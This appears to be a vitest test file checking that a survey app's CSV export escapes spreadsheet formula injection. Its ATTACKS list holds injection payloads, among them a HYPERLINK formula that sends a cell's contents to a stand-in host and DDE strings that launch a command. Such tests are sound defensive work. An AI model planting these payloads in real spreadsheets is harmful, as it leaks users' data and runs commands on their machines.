import fc from "fast-check";
import { expect, it, onTestFinished } from "vitest";
import { csvText } from "../src/csv/cell.ts";
import { parseCsv, parseTable } from "./csv-parser.ts";
import { running, send } from "./running.ts";
import { submission } from "./survey.ts";

const ATTACKS = [
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '"=1+1',
  '","=1+1',
  '"\r\n=1+1,"',
  "-5",
  "+84 912 345 678",
];

/** What a spreadsheet would run: anything that begins so, once spaces and the like are gone. */
const RUNS = /^[\s\ufeff]*[=+\-@＝＋－＠]/;

it("leaves no cell that a spreadsheet would run", async () => {
  const { url, stop } = await running();
  onTestFinished(stop);
  for (const attack of ATTACKS) {
    const sent = submission({
      context: { unit: attack },
      answers: { staff: "good", came: ["else"], "came.other": attack, change: -5, comment: attack },
    });
    expect((await send(url, sent)).status).toBe(201);
  }
  const text = await (await fetch(`${url}/export.csv?survey=one-stop`)).text();
  const rows = parseTable(text);
  expect(rows).toHaveLength(ATTACKS.length);
  for (const row of rows) {
    // A number is one, and stays one.
    expect(row["change"]).toBe("-5");
    for (const [name, cell] of Object.entries(row)) if (name !== "change") expect(cell).not.toMatch(RUNS);
    for (const name of ["_context.unit", "came.other", "comment"]) {
      expect(ATTACKS).toContain(row[name]!.replace(/^'/, ""));
    }
  }
  expect(rows.map((row) => row["comment"]!.replace(/^'/, "")).sort()).toEqual([...ATTACKS].sort());
});

it("never lets a text pass for a missing code, and can be read back exactly", () => {
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.constantFrom(".blank", "'", "''=1", ...ATTACKS)), (text) => {
      const [[cell] = []] = parseCsv(`${csvText(text)}\r\n`);
      expect(cell!.replace(/^'/, "")).toBe(text);
      expect(cell).not.toMatch(/^\./);
      expect(cell).not.toMatch(RUNS);
    }),
  );
});
